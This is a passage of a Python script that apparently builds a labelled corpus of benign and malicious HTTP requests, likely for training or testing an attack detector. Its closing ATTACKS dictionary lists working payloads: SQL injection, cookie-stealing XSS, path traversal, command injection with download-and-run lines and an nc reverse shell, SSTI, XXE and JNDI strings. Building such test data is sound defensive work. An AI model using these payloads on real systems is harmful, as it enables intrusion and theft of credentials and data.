        return g.request("GET", f"/v2/orders?status=paid,shipped&placed_after={q(iso(rng), safe='')}&sort=-placed_at&fields=id,number,total,lines.sku&limit=50&cursor={b64url(json.dumps({'id': rng.randint(1, 99999), 'ts': epoch(rng)}).encode())}", h)
    if style == 6:
        doc = {"query": {"bool": {"must": [{"match": {"title": rng.pick(SHOP_SEARCHES)}}],
                                  "filter": [{"range": {"price": {"gte": 0, "lte": rng.randint(20, 500)}}}, {"term": {"in_stock": True}}]}},
               "sort": [{"_score": "desc"}, {"price": "asc"}], "size": 24, "from": 0, "highlight": {"fields": {"title": {}}}}
        return post_json("POST", "/v2/search/_query", h, doc)
    doc = {"id": uuid(rng), "type": "return_request", "orderId": f"W{rng.randint(10**7, 10**8)}",
           "items": [{"lineId": rng.randint(1, 9), "reason": rng.choice(["wrong_size", "damaged", "not_as_described", "changed_mind"]),
                      "comment": rng.pick(CHAT_MESSAGES)}], "refundMethod": rng.choice(["original", "store_credit"]), "createdAt": iso(rng)}
    return post_json("POST", "/v2/returns", h, doc)


def b_jwt_api(rng):
    style = rng.randint(0, 5)
    h = api(rng, auth=False, ua=rng.choice(BROWSER_UAS))
    tok = jwt(rng)
    if style == 0:
        return g.request("GET", f"/v2/me/orders/{rng.randint(40000, 69999)}", h + [["Authorization", "Bearer " + tok]])
    if style == 1:
        return g.request("DELETE", f"/v2/me/cart/items/{uuid(rng)}", h + [["Authorization", "Bearer " + tok]])
    if style == 2:
        return g.request("GET", f"/events/stream?access_token={tok}&channels=orders,chat", h + [["Accept", "text/event-stream"]])
    if style == 3:
        body = g.form_body([("grant_type", "refresh_token"), ("refresh_token", b64url(rng.randbytes(48))), ("client_id", "shop-web"),
                            ("scope", "openid profile email offline_access")])
        return g.request("POST", "/oauth/token", h + [["Content-Type", "application/x-www-form-urlencoded"]], body)
    if style == 4:
        return g.request("GET", "/v2/me", h + [["Cookie", f"id_token={tok}; access_token={jwt(rng)}; {cookie_jar(rng)}"]])
    return post_json("POST", "/v2/auth/introspect", h + [["Authorization", "Basic " + b64(b"shop-web:" + b64url(rng.randbytes(24)).encode())]],
                     {"token": tok, "token_type_hint": "access_token"})


def b_graphql(rng):
    name, query, make = rng.pick(GRAPHQL_OPS)
    host = QA_HOST if name in ("QuestionPage", "PostAnswer", "TagSuggest", "UpdateProfile") else PASTE_HOST if name == "CreatePaste" else SHOP_HOST
    h = xhr(rng, host, site="qa" if host == QA_HOST else "shop", accept=rng.choice(["application/json", ACCEPT_OTHER[7]]))
    h += [["apollographql-client-name", "web"], ["apollographql-client-version", "2026.12.%d" % rng.randint(1, 9)]]
    if make is None or rng.random() < 0.15:
        variables = make(rng) if make else {}
        ext = {"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(query.encode()).hexdigest()}}
        return g.request("GET", "/graphql?" + urllib.parse.urlencode({"operationName": name, "variables": json.dumps(variables, ensure_ascii=False),
                                                                      "extensions": json.dumps(ext)}), h)
    return post_json("POST", "/graphql", h, {"operationName": name, "query": query, "variables": make(rng)})


# senders of the webhooks, dealt like the texts: (kind, n) means kind `kind`, n-th of its sender
WEBHOOK_MIX = [(k, i) for k, n in [(0, 5), (1, 3), (2, 4), (3, 4), (4, 3), (5, 4), (6, 5), (7, 2), (8, 2)] for i in range(n)]


def b_webhook(rng):
    secret = rng.randbytes(32)
    kind = rng.pick(WEBHOOK_MIX)[0]
    ts = epoch(rng)
    if kind == 0:
        ev = rng.choice(["payment_intent.succeeded", "charge.refunded", "checkout.session.completed", "invoice.payment_failed"])
        addr = address_doc(rng)
        doc = {"id": "evt_" + b64url(rng.randbytes(18)), "object": "event", "api_version": "2026-11-20", "created": ts, "type": ev,
               "livemode": True, "pending_webhooks": 1, "request": {"id": "req_" + b64url(rng.randbytes(10)), "idempotency_key": uuid(rng)},
               "data": {"object": {"id": "pi_" + b64url(rng.randbytes(18)), "object": "payment_intent", "amount": rng.randint(500, 90000),
                                   "currency": rng.choice(["eur", "gbp", "usd"]), "status": "succeeded",
                                   "description": rng.choice(["Order W%d" % rng.randint(10**7, 10**8), "Subscription update", "Gift card €50"]),
                                   "metadata": {"order_id": str(rng.randint(40000, 69999)), "customer_note": rng.pick(DELIVERY_NOTES)},
                                   "shipping": {"name": addr["firstName"] + " " + addr["lastName"], "address": {"line1": addr["line1"], "city": addr["city"],
                                                                                                               "postal_code": addr["postcode"], "country": addr["country"]}}}}}
        body = json.dumps(doc, ensure_ascii=False, indent=2)
        h = [["Host", API_HOST], ["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Accept", "*/*; q=0.5, application/xml"],
             ["Cache-Control", "no-cache"], ["Content-Type", "application/json; charset=utf-8"],
             ["Stripe-Signature", f"t={ts},v1={sign(secret, f'{ts}.{body}')},v0={rng.randbytes(32).hex()}"]]
        return g.request("POST", "/webhooks/stripe", h, body)
    if kind == 1:
        doc = {"id": "WH-" + rng.randbytes(8).hex().upper(), "event_version": "1.0", "create_time": iso(rng), "resource_type": "capture",
               "event_type": "PAYMENT.CAPTURE.COMPLETED", "summary": "Payment completed for EUR %d.%02d" % (rng.randint(5, 500), rng.randint(0, 99)),
               "resource": {"id": rng.randbytes(8).hex().upper(), "status": "COMPLETED", "amount": {"currency_code": "EUR", "value": "%d.00" % rng.randint(5, 500)},
                            "custom_id": f"order-{rng.randint(40000, 69999)}", "invoice_id": f"INV-2026-{rng.randint(1, 9999):04d}",
                            "links": [{"href": f"https://api.paypal.example/v2/payments/captures/{rng.randbytes(8).hex().upper()}", "rel": "self", "method": "GET"}]}}
        body = json.dumps(doc)
        h = [["Host", API_HOST], ["User-Agent", "PayPal/AUHR-214.0-58225914"], ["Content-Type", "application/json"],
             ["PAYPAL-TRANSMISSION-ID", uuid(rng)], ["PAYPAL-TRANSMISSION-TIME", iso(rng)], ["PAYPAL-AUTH-ALGO", "SHA256withRSA"],
             ["PAYPAL-CERT-URL", "https://api.paypal.example/v1/notifications/certs/CERT-360caa42-fca2a594-1d93a270"],
             ["PAYPAL-TRANSMISSION-SIG", b64(rng.randbytes(256))]]
        return g.request("POST", "/webhooks/paypal", h, body)
    if kind == 2:
        history = [rng.pick(TRACKING_MESSAGES) for _ in range(rng.randint(2, 4))]
        status, message = history[-1]
        doc = {"id": "evt_" + rng.randbytes(12).hex(), "object": "Event", "description": "tracker.updated", "mode": "production",
               "created_at": iso(rng), "result": {"id": "trk_" + rng.randbytes(12).hex(), "tracking_code": "JD0146%014d" % rng.randint(0, 10**14),
                                                 "status": status, "carrier": rng.choice(["DPD", "An Post", "Royal Mail", "DHL", "Yamato"]),
                                                 "tracking_details": [{"message": m, "status": st, "datetime": iso(rng),
                                                                       "tracking_location": {"city": rng.choice(["DUBLIN", "KÖLN", "ST. HELIER", "O'HARE"]), "country": "IE"}}
                                                                      for st, m in history],
                                                 "est_delivery_date": iso(rng), "signed_by": rng.choice([None, "O'SULLIVAN", "Ms. D'Souza"])}}
        body = json.dumps(doc, ensure_ascii=False)
        h = [["Host", API_HOST], ["User-Agent", "EasyPost WebHook Agent 1.0"], ["Content-Type", "application/json"],
             ["X-Hmac-Signature", "hmac-sha256-hex=" + sign(secret, body)], ["X-Timestamp", str(ts)]]
        return g.request("POST", "/webhooks/shipping", h, body)
    if kind == 3:
        msgs = [rng.pick(COMMIT_MESSAGES) for _ in range(rng.randint(2, 4))]
        sha = rng.randbytes(20).hex()
        doc = {"ref": "refs/heads/main", "before": rng.randbytes(20).hex(), "after": sha, "created": False, "deleted": False, "forced": False,
               "compare": f"https://github.com/example/shop/compare/{sha[:12]}...{sha[:12]}",
               "commits": [{"id": c, "tree_id": rng.randbytes(20).hex(), "distinct": True, "message": msg, "timestamp": iso(rng),
                            "url": f"https://github.com/example/shop/commit/{c}",
                            "author": {"name": rng.pick(NAMES), "email": rng.choice(EMAILS), "username": "dev-" + rng.randbytes(3).hex()},
                            "added": [], "removed": rng.choice([[], ["db/legacy/users_old.sql"]]), "modified": ["src/search/query.py", "tests/test_search.py"]}
                           for c, msg in zip([rng.randbytes(20).hex() for _ in msgs[:-1]] + [sha], msgs)],
               "repository": {"id": rng.randint(10**8, 10**9), "full_name": "example/shop", "private": True, "default_branch": "main"},
               "pusher": {"name": "dev-" + rng.randbytes(3).hex(), "email": rng.choice(EMAILS)}, "sender": {"login": "dev-" + rng.randbytes(3).hex(), "type": "User"}}
        body = json.dumps(doc, ensure_ascii=False)
        h = [["Host", "ci.devhub.example"], ["User-Agent", "GitHub-Hookshot/" + rng.randbytes(3).hex()], ["Accept", "*/*"],
             ["Content-Type", "application/json"], ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", uuid(rng)],
             ["X-GitHub-Hook-ID", str(rng.randint(10**8, 10**9))], ["X-Hub-Signature", "sha1=" + hmac.new(secret, body.encode(), hashlib.sha1).hexdigest()],
             ["X-Hub-Signature-256", "sha256=" + sign(secret, body)]]
        return g.request("POST", "/hooks/github", h, body)
    if kind == 4:
        doc = {"object_kind": "pipeline", "object_attributes": {"id": rng.randint(10**6, 10**7), "ref": "main", "status": rng.choice(["success", "failed"]),
                                                               "stages": ["build", "test", "deploy"], "duration": rng.randint(60, 1800),
                                                               "variables": [{"key": "DEPLOY_ENV", "value": "staging"}]},
               "commit": {"id": rng.randbytes(20).hex(), "message": rng.pick(COMMIT_MESSAGES) + "\n\nSigned-off-by: Łukasz Wróbel <lukasz@example.pl>\n",
                          "author": {"name": rng.pick(NAMES)}},
               "builds": [{"id": rng.randint(10**6, 10**7), "stage": s, "name": n, "status": "success"} for s, n in
                          [("build", "build"), ("test", "pytest: [3.12]"), ("deploy", "rsync -> staging")]]}
        body = json.dumps(doc, ensure_ascii=False)
        h = [["Host", "ci.devhub.example"], ["User-Agent", "GitLab/17.6.1"], ["Content-Type", "application/json"],
             ["X-Gitlab-Event", "Pipeline Hook"], ["X-Gitlab-Token", b64url(rng.randbytes(24))], ["X-Gitlab-Instance", "https://gitlab.example.com"],
             ["X-Gitlab-Webhook-UUID", uuid(rng)], ["X-Gitlab-Event-UUID", uuid(rng)]]
        return g.request("POST", "/hooks/gitlab", h, body)
    if kind == 5:
        cmd, text = rng.pick(SLASH_COMMANDS)
        body = g.form_body([("token", b64url(rng.randbytes(18))), ("team_id", "T0" + rng.randbytes(4).hex().upper()), ("team_domain", "example-shop"),
                            ("channel_id", "C0" + rng.randbytes(4).hex().upper()), ("channel_name", rng.choice(["ops", "releases", "general"])),
                            ("user_id", "U0" + rng.randbytes(4).hex().upper()), ("user_name", rng.choice(["siobhan", "lukasz.w", "wei"])),
                            ("command", cmd), ("text", text), ("api_app_id", "A0" + rng.randbytes(4).hex().upper()),
                            ("response_url", f"https://hooks.slack.example/commands/T0{rng.randint(10**6, 10**7)}/{rng.randint(10**12, 10**13)}/{b64url(rng.randbytes(18))}"),
                            ("trigger_id", f"{rng.randint(10**12, 10**13)}.{rng.randint(10**9, 10**10)}.{rng.randbytes(16).hex()}")])
        h = [["Host", "ops.devhub.example"], ["User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"], ["Accept", "application/json,*/*"],
             ["Content-Type", "application/x-www-form-urlencoded"], ["X-Slack-Request-Timestamp", str(ts)],
             ["X-Slack-Signature", "v0=" + sign(secret, f"v0:{ts}:x")]]
        return g.request("POST", "/slack/commands", h, body)
    if kind == 6:
        body = g.form_body([("ToCountry", "IE"), ("SmsMessageSid", "SM" + rng.randbytes(16).hex()), ("NumMedia", "0"),
                            ("From", "+35387" + str(rng.randint(1000000, 9999999))), ("To", "+353861234567"), ("Body", rng.pick(SMS_TEXTS)),
                            ("FromCity", ""), ("AccountSid", "AC" + rng.randbytes(16).hex()), ("ApiVersion", "2010-04-01")])
        h = [["Host", HELP_HOST], ["User-Agent", "TwilioProxy/1.1"], ["Accept", "*/*"], ["Content-Type", "application/x-www-form-urlencoded"],
             ["X-Twilio-Signature", b64(hmac.new(secret, body.encode(), hashlib.sha1).digest())], ["I-Twilio-Idempotency-Token", uuid(rng)]]
        return g.request("POST", "/hooks/sms", h, body)
    if kind == 7:
        doc = {"type": "workflow-completed", "id": uuid(rng), "happened_at": iso(rng),
               "webhook": {"id": uuid(rng), "name": "notify-shop"},
               "workflow": {"id": uuid(rng), "name": "build-and-test", "status": rng.choice(["success", "failed"]), "created_at": iso(rng)},
               "pipeline": {"id": uuid(rng), "number": rng.randint(1000, 9999), "trigger": {"type": "webhook"},
                            "vcs": {"branch": rng.choice(["main", "feature/seat-picker", "fix/o-brien-search"]), "commit": {"subject": rng.pick(COMMIT_MESSAGES)}}},
               "project": {"slug": "gh/example/shop", "name": "shop"}}
        body = json.dumps(doc, ensure_ascii=False)
        h = [["Host", "ci.devhub.example"], ["User-Agent", "CircleCI-Webhook/1.0"], ["Content-Type", "application/json"],
             ["circleci-event-type", "workflow-completed"], ["circleci-signature", "v1=" + sign(secret, body)]]
        return g.request("POST", "/hooks/circleci", h, body)
    # Adyen-style notification: the HMAC is inside the body
    doc = {"live": "true", "notificationItems": [{"NotificationRequestItem": {
        "additionalData": {"hmacSignature": b64(rng.randbytes(32)), "shopperReference": "cus-" + str(rng.randint(1000, 9999)),
                           "cardSummary": "%04d" % rng.randint(0, 9999), "expiryDate": "03/2029", "authCode": str(rng.randint(10000, 99999))},
        "amount": {"currency": "EUR", "value": rng.randint(500, 90000)}, "eventCode": rng.choice(["AUTHORISATION", "REFUND", "CAPTURE"]),
        "eventDate": iso(rng), "merchantAccountCode": "ExampleShopECOM", "merchantReference": f"W{rng.randint(10**7, 10**8)}",
        "paymentMethod": rng.choice(["visa", "mc", "ideal", "klarna"]), "pspReference": "%016d" % rng.randint(0, 10**16), "reason": "", "success": "true"}}]}
    body = json.dumps(doc)
    h = [["Host", API_HOST], ["User-Agent", "Adyen HttpClient 1.0"], ["Content-Type", "application/json"],
         ["Authorization", "Basic " + b64(b"adyen-hooks:" + b64url(rng.randbytes(18)).encode())]]
    return g.request("POST", "/webhooks/adyen", h, body)


def b_upload_csv(rng):
    style = rng.randint(0, 3)
    maker, fn, ct = [(csv_products, "products-import.csv", "text/csv"), (csv_contacts, "contacts export (2).csv", "text/csv"),
                     (csv_bank, "statement_2026-11.csv", "application/vnd.ms-excel"), (csv_timesheet, "timesheet_wk49.tsv", "text/tab-separated-values")][style]
    h = browser(rng, CMS_HOST, referer=f"https://{CMS_HOST}/admin/import", site="cms")
    parts = [("_csrf", b64url(rng.randbytes(32))), ("import_type", ["products", "contacts", "transactions", "timesheets"][style]),
             ("has_header", "1"), ("encoding", rng.choice(["utf-8", "utf-8-sig"])), ("file", fn, ct, maker(rng))]
    return post_multipart(rng, "/admin/import/upload", h, parts)


def b_upload_text(rng):
    fn, ct, content = rng.pick(TEXT_UPLOADS)
    h = browser(rng, HELP_HOST, referer=f"https://{HELP_HOST}/tickets/{rng.randint(30000, 39999)}")
    parts = [("authenticity_token", b64(rng.randbytes(32))), ("comment", rng.choice(["see attached", "Log attached as requested.",
                                                                                    "Here's the file – sorry it took a while!", ""])),
             ("attachments[]", fn, ct, content)]
    if rng.random() < 0.3:
        parts.append(("attachments[]", "screenshot.png", "image/png", "[binary image omitted by client]"))
    return post_multipart(rng, f"/tickets/{rng.randint(30000, 39999)}/comments", h, parts)


def b_data_url(rng):
    style = rng.randint(0, 4)
    if style == 0:
        h = xhr(rng, QA_HOST, site="qa", referer_path="/users/edit/current")
        return post_json("PUT", "/api/users/me/avatar", h, {"image": data_url(rng), "crop": {"x": rng.randint(0, 40), "y": rng.randint(0, 40), "size": 256}})
    if style == 1:
        h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/account/profile")
        return post_form("POST", "/account/profile/photo", h, [("_token", b64url(rng.randbytes(30))), ("photo_data", data_url(rng, ("png", "jpeg"))),
                                                              ("alt", rng.choice(["me", "Profile photo of Siobhán", ""]))])
    if style == 2:
        h = xhr(rng, CMS_HOST, site="cms", referer_path="/editor")
        return post_json("POST", "/api/media/paste", h, {"filename": rng.choice(["pasted image 1.png", "image (3).png", "Screenshot 2026-12-04 at 10.12.33.png"]),
                                                         "dataUrl": data_url(rng, ("png",)), "pageId": rng.randint(10, 400)})
    if style == 3:
        h = mobile(rng)
        body = {"receiptImage": {"mime": "image/jpeg", "base64": b64(image_bytes(rng, "jpeg", rng.randint(2000, 15000)))},
                "orderId": f"W{rng.randint(10**7, 10**8)}", "note": rng.choice(["receipt for return", "damaged box photo", ""])}
        return post_json("POST", "/v3/returns/evidence", h, body)
    h = xhr(rng, SHOP_HOST, referer_path="/p/oak-dining-table-180x90")
    return post_json("POST", "/api/v2/reviews/photos", h, {"photos": [data_url(rng, ("jpeg", "webp", "avif")) for _ in range(rng.randint(1, 3))]})


def b_mobile(rng):
    h = mobile(rng)
    style = rng.randint(0, 7)
    if style == 0:
        return g.request("GET", f"/v3/search?q={q(rng.pick(SHOP_SEARCHES), safe='')}&page=1&sort=relevance", h)
    if style == 1:
        return post_json("POST", "/v3/cart/items", h, {"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": rng.randint(1, 3), "source": "pdp"})
    if style == 2:
        return post_json("POST", "/v3/devices/push", h, {"token": rng.randbytes(32).hex(), "platform": "apns", "topics": ["orders", "offers"],
                                                          "locale": "en_IE", "appBuild": rng.randint(4000, 9999)})
    if style == 3:
        return g.request("GET", f"/v3/stores/nearby?lat={rng.uniform(51, 55):.5f}&lng={rng.uniform(-10, -5):.5f}&radius_km=25", h)
    if style == 4:
        return post_json("POST", "/v3/analytics/events", h, {"events": [{"name": rng.choice(["screen_view", "tap", "search_submitted"]),
                                                                         "ts": epoch(rng) * 1000, "params": {"screen": rng.choice(["Home", "PDP", "Cart"]),
                                                                                                             "query": rng.pick(SHOP_SEARCHES)}}]})
    if style == 5:
        return g.request("GET", f"/v3/orders?limit=20&include=lines,tracking", h)
    if style == 6:
        return post_json("POST", "/v3/support/messages", h, {"text": rng.pick(CHAT_MESSAGES), "orderId": f"W{rng.randint(10**7, 10**8)}",
                                                              "diagnostics": {"appState": "foreground", "lastScreen": "OrderDetail"}})
    return g.request("GET", "/v3/config?schema=4", h)


def b_chat(rng):
    h = xhr(rng, HELP_HOST, referer_path="/chat")
    doc = {"conversationId": uuid(rng), "clientMessageId": uuid(rng), "type": "text", "text": rng.pick(CHAT_MESSAGES),
           "sentAt": iso(rng), "metadata": {"page": f"https://{SHOP_HOST}{rng.choice(PAGE_PATHS)}", "widgetVersion": "3.8.1"}}
    return post_json("POST", "/api/chat/messages", h, doc)


def b_comment(rng):
    text = rng.pick(COMMENTS)
    slug = rng.choice(["why-we-picked-postgres", "shell-one-liners", "brown-soda-bread", "union-station-seating-guide", "migrations-without-downtime"])
    h = browser(rng, BLOG_HOST, referer=f"https://{BLOG_HOST}/2026/12/{slug}/")
    h.append(["Origin", f"https://{BLOG_HOST}"])
    fields = [("comment", text), ("author", rng.pick(NAMES)), ("email", rng.choice(EMAILS)),
              ("url", rng.choice(["", "", "https://example.ie/~sean/", "http://blog.example.dev"])),
              ("submit", "Post Comment"), ("comment_post_ID", str(rng.randint(100, 999))), ("comment_parent", rng.choice(["0", "0", str(rng.randint(1000, 9999))])),
              ("akismet_comment_nonce", rng.randbytes(5).hex()), ("ak_js_1", str(epoch(rng) * 1000))]
    return post_form("POST", "/wp-comments-post.php", h, fields)


def b_oauth(rng):
    style = rng.randint(0, 4)
    if style == 0:
        h = browser(rng, SHOP_HOST, referer="https://accounts.example.com/")
        return g.request("GET", f"/auth/callback?code={b64url(rng.randbytes(30))}&state={b64url(rng.randbytes(24))}"
                                f"&scope={q('openid profile email', safe='')}&authuser=0&prompt=none", h)
    if style == 1:
        h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/account/orders/51877?tab=tracking")
        nxt = rng.choice(["/account/orders/51877?tab=tracking", "/checkout?step=address&coupon=XMAS10", "/admin/orders?status=open&sort=-placed_at"])
        return g.request("GET", f"/login?next={q(nxt, safe='')}", h)
    if style == 2:
        verifier = b64url(rng.randbytes(32))
        chal = b64url(hashlib.sha256(verifier.encode()).digest())
        h = browser(rng, "accounts.shop.example", referer=f"https://{SHOP_HOST}/")
        return g.request("GET", "/oauth2/authorize?" + urllib.parse.urlencode({
            "response_type": "code", "client_id": "shop-web", "redirect_uri": f"https://{SHOP_HOST}/auth/callback",
            "scope": "openid profile email offline_access", "state": b64url(rng.randbytes(16)), "nonce": b64url(rng.randbytes(16)),
            "code_challenge": chal, "code_challenge_method": "S256", "ui_locales": "en-GB ga"}), h)
    if style == 3:
        h = api(rng, host="accounts.shop.example", auth=False)
        return post_form("POST", "/oauth2/token", h, [("grant_type", "authorization_code"), ("code", b64url(rng.randbytes(30))),
                                                      ("redirect_uri", f"https://{SHOP_HOST}/auth/callback"), ("client_id", "shop-web"),
                                                      ("code_verifier", b64url(rng.randbytes(32)))])
    issue = iso(rng)
    saml = (f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
            f'ID="_{rng.randbytes(16).hex()}" Version="2.0" IssueInstant="{issue}" Destination="https://{CMS_HOST}/saml/acs">'
            f'<saml:Issuer>https://idp.example.com/realms/staff</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            f'<saml:Assertion ID="_{rng.randbytes(16).hex()}" IssueInstant="{issue}" Version="2.0"><saml:Issuer>https://idp.example.com/realms/staff</saml:Issuer>'
            f'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/></ds:SignedInfo><ds:SignatureValue>{b64(rng.randbytes(256))}</ds:SignatureValue></ds:Signature>'
            f'<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{rng.choice(EMAILS)}</saml:NameID></saml:Subject>'
            f'<saml:AttributeStatement><saml:Attribute Name="displayName"><saml:AttributeValue>{xml_escape_html(rng.pick(NAMES))}</saml:AttributeValue></saml:Attribute>'
            f'<saml:Attribute Name="groups"><saml:AttributeValue>cms-editors</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>')
    h = browser(rng, CMS_HOST, referer="https://idp.example.com/")
    h.append(["Origin", "https://idp.example.com"])
    return post_form("POST", "/saml/acs", h, [("SAMLResponse", b64(saml.encode())), ("RelayState", "/admin/pages?status=draft")])


BENIGN_KINDS = [
    ("page", b_page, 24), ("shop_search", b_shop_search, 40), ("qa_search", b_qa_search, 28), ("qa_question", b_qa_question, 42),
    ("qa_answer", b_qa_answer, 30), ("paste", b_paste, 50), ("paste_api", b_paste_api, 30), ("support_email", b_support_email, 30),
    ("support_form", b_support_form, 34), ("review", b_review, 33), ("address", b_address, 30), ("profile", b_profile, 20),
    ("cms_html", b_cms_html, 22), ("cms_markdown", b_cms_markdown, 22), ("json_api", b_json_api, 25), ("jwt_api", b_jwt_api, 20),
    ("graphql", b_graphql, 22), ("webhook", b_webhook, len(WEBHOOK_MIX)), ("upload_csv", b_upload_csv, 15), ("upload_text", b_upload_text, 15),
    ("data_url", b_data_url, 20), ("mobile", b_mobile, 24), ("chat", b_chat, 22), ("comment", b_comment, 24), ("oauth", b_oauth, 12),
]

DEALT = [CODE, QA_INTROS, QA_CLOSINGS, ANSWER_INTROS, ANSWER_CLOSINGS, SHOP_SEARCHES, QA_SEARCHES, REFERER_QUERIES, NAMES, ADDRESSES,
         SUPPORT_FORM_TEXTS, EMAIL_CORES, EMAIL_SIGNATURES, COMMENTS, CHAT_MESSAGES, REVIEWS, BIOS, CMS_HTML, MARKDOWN_DOCS, GRAPHQL_OPS,
         TEXT_UPLOADS, DELIVERY_NOTES, COMMIT_MESSAGES, SMS_TEXTS, TRACKING_MESSAGES, SLASH_COMMANDS, WEBHOOK_MIX]


def benign():
    rng = g.Source(SEED)
    out = []
    for kind, build, count in BENIGN_KINDS:
        for _ in range(count):
            r = build(rng)
            out.append({"id": f"ninth-benign-{len(out) + 1:04d}-{kind}", "class": "benign", "placement": kind, "encoding": "plain", **r})
    unused = [t for v in DEALT for t in v if t not in rng.used]
    if unused:
        raise SystemExit(f"{len(unused)} written texts never used: {[str(t)[:60] for t in unused]}")
    return out


# --------------------------------------------------------------------------
# Attacks: payloads written for this corpus, placed in the fields the benign
# requests above use
# --------------------------------------------------------------------------

ATTACKS = {
    "sqli": [
        "x' UNION ALL SELECT username,password_hash,NULL FROM admin_users-- -",
        "42 AND (SELECT 1 FROM (SELECT SLEEP(7))t)",
        "seats' AND extractvalue(1,concat(0x5c,(SELECT @@version)))-- ",
        "1; UPDATE accounts SET role='owner' WHERE email='me@evil.test';--",
        "'; SELECT pg_sleep(6); --",
        "3 ORDER BY (SELECT CASE WHEN (ascii(substring(current_user,1,1))>100) THEN 1 ELSE 1/0 END)",
        "O'Brien' OR '1'='1' -- ",
        "'; EXEC master..xp_cmdshell 'whoami';--",
    ],
    "xss": [
        "\"><img src=x onerror=fetch(`//x.attacker.test/c?`+document.cookie)>",
        "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>",
        "javascript:fetch('//x.attacker.test/'+localStorage.getItem('token'))",
        "</textarea><script>new Image().src='//c.attacker.test/?'+document.cookie</script>",
        "<details open ontoggle=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">",
        "[see the fix](javascript:alert(document.cookie))",
        "<iframe srcdoc=\"<script>parent.alert(origin)</script>\"></iframe>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click for the patch</a>",
    ],
    "path_traversal": [
        "../../../../etc/shadow",
        "..\\..\\..\\..\\Windows\\win.ini",
        "/var/www/app/uploads/../../../../proc/self/environ",
        "....//....//....//etc/passwd",
        "attachments/%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa",
        "..%c0%af..%c0%af..%c0%afetc%c0%afhosts",
        "../../../../../../etc/passwd%00.css",
    ],
    "cmdi": [
        "; curl -s http://203.0.113.9/x.sh | sh",
        "$(wget -qO- http://198.51.100.4/k | bash)",
        "invoice.pdf`id`",
        "| nc -e /bin/sh 192.0.2.7 4444",
        "127.0.0.1 && cat /etc/passwd",
        "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.5/a.ps1')\"",
        "x || ping -c 12 oob.attacker.test",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&(objectClass=*)",
        "*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example,dc=com)",
        "jdoe)(|(userPassword=*)",
        "*)(objectClass=*))%00",
        ")(cn=*))(|(cn=*",
    ],
    "crlf": [
        "en\r\nSet-Cookie: session=attacker; Path=/; HttpOnly",
        "/account\r\nLocation: https://phish.attacker.test/login\r\n\r\n",
        "help@shop.example\r\nBcc: list@spam.attacker.test",
        "ok\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>owned</h1>",
        "x\nX-Forwarded-Host: evil.attacker.test",
        "Europe/Dublin\r\nX-Admin: true",
    ],
    "ssi": [
        "<!--#exec cmd=\"cat /etc/passwd\" -->",
        "<!--#include virtual=\"/../../../etc/passwd\" -->",
        "<!--#echo var=\"DOCUMENT_ROOT\" --><!--#printenv -->",
        "<!--#exec cgi=\"/cgi-bin/status.sh?x=1\" -->",
        "<!--#set var=\"c\" value=\"id\" --><!--#exec cmd=\"$c\" -->",
        "<!--#include file=\"../../.htpasswd\" -->",
    ],
    "ssti": [
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{ range.constructor(\"return process.mainModule.require('child_process').execSync('id')\")() }}",
        "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"whoami\")",
        "<%= `cat /etc/passwd` %>",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c.__name__ }}{% endfor %}",
    ],
    "nosql": [
        {"$ne": None},
        {"$regex": "^adm", "$options": "i"},
        {"$where": "sleep(5000) || true"},
        "' || this.password.match(/^a/) || '",
        {"$gt": ""},
        "'; return true; var x='",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>",
        "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % p SYSTEM \"http://oob.attacker.test/e.dtd\"> %p;]><d/>",
        "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY t SYSTEM \"file:///etc/passwd\">]>"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text y=\"20\">&t;</text></svg>",
        "<!DOCTYPE order SYSTEM \"http://198.51.100.20/evil.dtd\"><order><id>1</id></order>",
        "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></root>",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY c SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/html/config.php\">]><a>&c;</a>",
    ],
    "jndi": [
        "${jndi:ldap://198.51.100.3:1389/Basic/Command/Base64/aWQ=}",
        "${jndi:rmi://attacker.test:1099/obj}",
        "${${lower:j}ndi:${lower:l}dap://x.attacker.test/a}",
